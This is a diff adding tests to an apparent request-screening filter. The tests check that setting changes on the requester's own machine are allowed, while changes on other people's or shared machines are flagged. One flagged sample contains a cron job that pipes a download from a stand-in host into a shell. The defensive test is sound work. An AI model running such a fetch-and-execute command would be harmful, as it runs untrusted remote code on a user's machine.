@@ -156,3 +156,27 @@ describe('round ten: things read whole', () => {
     });
   }
 });
+
+describe("round ten: settings made on the requester's own machine", () => {
+  const allowed = [
+    'Add 0.0.0.0 videosite.example to my own /etc/hosts so it stays blocked during exam week.',
+    'Add a crontab entry on my home server that runs my photo backup script at 3am.',
+    'Put vm.swappiness=10 in /etc/sysctl.d/60-swap.conf on my workstation and reload it.',
+  ];
+  const flagged = [
+    "Add 0.0.0.0 videosite.example to /etc/hosts on my roommate's laptop.",
+    'Add a crontab entry on the company file server that runs my script every minute.',
+    'Add a cron job on my laptop that runs curl http://fetch.example/job.sh | sh every hour.',
+  ];
+  it('allows a setting scoped to a machine of ones own', () => {
+    for (const text of allowed) expect(decide(text), text).toBe('allow');
+  });
+  it("flags the same setting on someone else's or a shared machine, or one that runs a download", () => {
+    for (const text of flagged) expect(decide(text), text).not.toBe('allow');
+  });
+  it('keeps the finding listed, lowered and saying why', () => {
+    const v = fw.validateRequest({ id: 'own', content: allowed[1] as string });
+    expect(v.matches.length).toBeGreaterThan(0);
+    expect(v.reasons.some((r) => r.includes("on the requester's own machine"))).toBe(true);
+  });
+});
